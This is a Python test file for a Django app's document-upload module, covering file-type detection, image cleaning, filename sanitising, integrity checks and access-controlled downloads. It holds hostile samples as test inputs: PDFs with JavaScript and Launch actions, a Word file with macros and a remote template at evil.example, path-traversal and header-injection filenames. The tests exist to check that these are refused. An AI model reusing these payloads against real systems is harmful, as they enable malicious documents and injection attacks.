"""Stored files: told by content, written anew where pictures, served as harmless downloads to whom the room lets."""

from __future__ import annotations

import hashlib
import io
import os
import uuid
import zipfile
from pathlib import Path

import docx
import openpyxl
import pytest
from django.contrib.auth.models import AnonymousUser
from django.test import Client
from PIL import Image
from tests.world import World, make_world

from lienvung.errors import Conflict, Invalid, TooLarge
from lienvung.papers import access
from lienvung.papers.access import FileProvider
from lienvung.papers.actions import drop_file, drop_unnamed, safe_name, store_file
from lienvung.papers.kinds import read_file
from lienvung.papers.models import File

pytestmark = pytest.mark.django_db
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
UNHEARD = "a-room-that-registered-nothing"


@pytest.fixture(autouse=True)
def _media(settings, tmp_path) -> None:
    settings.MEDIA_ROOT = tmp_path


@pytest.fixture
def provider(monkeypatch) -> dict[str, object]:
    """A room whose answer the test sets."""
    asked: dict[str, object] = {"answer": False}

    def may_open(account, file):
        asked["account"] = account
        return asked["answer"]

    monkeypatch.setitem(access.providers._parts, "tested", FileProvider("tested", may_open))
    return asked


def picture(kind: str = "JPEG", **more) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 20), "green").save(out, kind, **more)
    return out.getvalue()


def word(**parts: bytes) -> bytes:
    out = io.BytesIO()
    docx.Document().save(out)
    if parts:
        with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as package:
            for name, data in parts.items():
                package.writestr(name.replace("__", "/"), data)
    return out.getvalue()


def test_each_kind_is_told_by_what_is_in_it() -> None:
    book = io.BytesIO()
    openpyxl.Workbook().save(book)
    assert read_file(PDF).kind == "pdf"
    assert read_file(word()).kind == "docx"
    assert read_file(book.getvalue()).kind == "xlsx"
    assert read_file(picture()).kind == "jpg"
    assert read_file(picture("PNG")).kind == "png"


def test_a_picture_keeps_its_pixels_and_nothing_else() -> None:
    exif = Image.Exif()
    exif[0x010F] = "a camera with a name"
    sent = picture(exif=exif) + b"<script>hidden behind</script>"
    kept = read_file(sent).data
    assert b"a camera with a name" in sent
    assert b"a camera with a name" not in kept
    assert b"script" not in kept
    assert Image.open(io.BytesIO(kept)).size == (40, 20)


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"<html><script>alert(1)</script>",
        b"MZ\x90\x00",
        b"%PDF-1.4 cut off",
        b"PK\x03\x04 no package",
        picture()[:60],
        b"GIF89a" + bytes(40),
        b"<svg xmlns='http://www.w3.org/2000/svg'/>",
    ],
)
def test_what_is_no_allowed_file_is_refused(data: bytes) -> None:
    with pytest.raises(Invalid) as refused:
        read_file(data)
    assert (refused.value.code, refused.value.path) == ("papers.kind", "file")


@pytest.mark.parametrize(
    "data",
    [
        PDF.replace(b"/Type", b"/JavaScript 1 0 R/Type"),
        PDF.replace(b"/Type", b"/J#61vaScript 1 0 R/Type"),
        PDF.replace(b"/Type", b"/Launch 1 0 R/Type"),
        PDF.replace(b"/Type", b"/S/Rendition/JS (app.alert(1))/Type"),
        PDF.replace(b"/Type", b"/S/Rendition/JS%\n7 0 R/Type"),
        word(word__vbaProject=b"x"),
        word(word__embeddings__oleObject1=b"x"),
        word(
            word___rels__settings=b"",
            **{
                "word___rels__settings.xml.rels": b'<Relationships><Relationship Id="r1" TargetMode="External" Type="http://'
                b'x/relationships/attachedTemplate" Target="http://evil.example/t.dotm"/></Relationships>'
            },
        ),
    ],
)
def test_what_would_run_or_call_elsewhere_is_refused(data: bytes) -> None:
    with pytest.raises(Invalid) as refused:
        read_file(data)
    assert refused.value.code == "papers.active"


def test_letters_of_a_scanned_page_that_look_like_a_name_are_no_script() -> None:
    scanned = PDF.replace(b"endobj", b"endobj 2 0 obj<<>>stream\n\x9c/JS\x01\xff/JS 7/JS.\nendstream endobj")
    assert read_file(scanned).kind == "pdf"


def test_what_the_product_made_is_kept_as_it_is() -> None:
    row = store_file(by=None, room="tested", name="bao cao", data=PDF + b"/JS(x)" * 9, made_here="pdf")
    assert access.bytes_of(row).endswith(b"/JS(x)")
    assert (row.kind, row.name) == ("pdf", "bao cao.pdf")


def test_a_link_that_a_reader_clicks_is_no_danger() -> None:
    rels = (
        b'<Relationships><Relationship Id="r1" TargetMode="External" '
        b'Type="http://x/relationships/hyperlink" Target="https://hanoi.gov.vn"/></Relationships>'
    )
    assert read_file(word(**{"word___rels__footnotes.xml.rels": rels})).kind == "docx"


def test_a_package_that_unpacks_to_too_much_is_refused() -> None:
    with pytest.raises(Invalid):
        read_file(word(word__media=bytes(220 * 1024 * 1024)))


def test_too_large_is_said_as_such() -> None:
    with pytest.raises(TooLarge):
        read_file(PDF + bytes(2 * 1024 * 1024), most_bytes=1024 * 1024)


def test_a_room_may_want_fewer_kinds() -> None:
    with pytest.raises(Invalid) as refused:
        read_file(picture(), kinds=frozenset({"pdf"}))
    assert "PDF" in refused.value.en
    assert "JPG" not in refused.value.en


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("Biên bản.docx", "Biên bản.pdf"),
        ("../../etc/passwd", "passwd.pdf"),
        ("C:\\tam\\ke hoach.PDF", "ke hoach.pdf"),
        ('a";\r\nX-Evil: 1.pdf', "a ; X-Evil 1.pdf"),
        ("anh\u202egpj.exe", "anhgpj.pdf"),
        ("...", "tep.pdf"),
        ("x" * 400 + ".pdf", "x" * 150 + ".pdf"),
    ],
)
def test_names_are_made_harmless(sent: str, kept: str) -> None:
    assert safe_name(sent, "pdf") == kept


def test_a_stored_file_is_found_again_whole(provider) -> None:
    row = store_file(by=None, room="tested", name="Biên bản 1.6.pdf", data=PDF, about="meeting:1")
    assert access.bytes_of(row) == PDF
    assert row.digest == hashlib.sha256(PDF).hexdigest()
    assert access.files_about("tested", "meeting:1") == [row]


def test_bytes_that_changed_on_the_disk_are_never_given_out(provider) -> None:
    row = store_file(by=None, room="tested", name="a.pdf", data=PDF)
    with open(row.content.path, "ab") as disk:
        disk.write(b"x")
    with pytest.raises(Conflict):
        access.bytes_of(row)


def test_only_the_room_lets_somebody_in(provider) -> None:
    world: World = make_world()
    row = store_file(by=None, room="tested", name='Kết quả "6 tháng".pdf', data=PDF)
    client = Client()
    address = f"/papers/{row.pk}"
    assert client.get(address)["Location"].startswith("/people/sign-in")
    assert isinstance(provider["account"], AnonymousUser) or not provider["account"].is_authenticated
    client.force_login(world.accounts["member"])
    assert client.get(address).status_code == 403
    provider["answer"] = True
    answer = client.get(address)
    assert (answer.status_code, answer.content, answer["Content-Type"]) == (200, PDF, "application/pdf")
    assert answer["Content-Disposition"].startswith("attachment; filename*=utf-8''K%E1%BA%BFt")
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in answer["Content-Security-Policy"]
    assert "no-store" in answer["Cache-Control"]
    assert client.post(address).status_code == 405


def test_a_room_that_registered_nothing_lets_nobody_in() -> None:
    world = make_world()
    row = store_file(by=None, room=UNHEARD, name="a.pdf", data=PDF)
    client = Client()
    client.force_login(world.accounts["staff"])
    assert client.get(f"/papers/{row.pk}").status_code == 403


def test_nobody_learns_which_files_there_are(provider) -> None:
    row = store_file(by=None, room="tested", name="a.pdf", data=PDF)
    answers = [Client().get(f"/papers/{id}") for id in (row.pk, uuid.uuid4())]
    assert {answer.status_code for answer in answers} == {302}


@pytest.mark.django_db(transaction=True)
def test_a_dropped_file_leaves_neither_row_nor_bytes(provider) -> None:
    row, other = (store_file(by=None, room="tested", name=f"{at}.pdf", data=PDF) for at in (1, 2))
    path = Path(row.content.path)
    drop_file(row)
    assert not path.exists()
    assert [each.pk for each in File.objects.all()] == [other.pk]
    assert access.bytes_of(other) == PDF


def test_bytes_that_no_row_names_are_dropped_after_a_day(provider, settings) -> None:
    row = store_file(by=None, room="tested", name="a.pdf", data=PDF)
    kept = Path(row.content.path)
    lost, fresh = kept.with_name("lost.pdf"), kept.with_name("fresh.pdf")
    for path in (lost, fresh):
        path.write_bytes(PDF)
    for path in (lost, kept):
        os.utime(path, (1, 1))
    assert drop_unnamed() == 1
    assert (kept.exists(), lost.exists(), fresh.exists()) == (True, False, True)
    settings.MEDIA_ROOT = settings.MEDIA_ROOT / "nothing-there"
    assert drop_unnamed() == 0
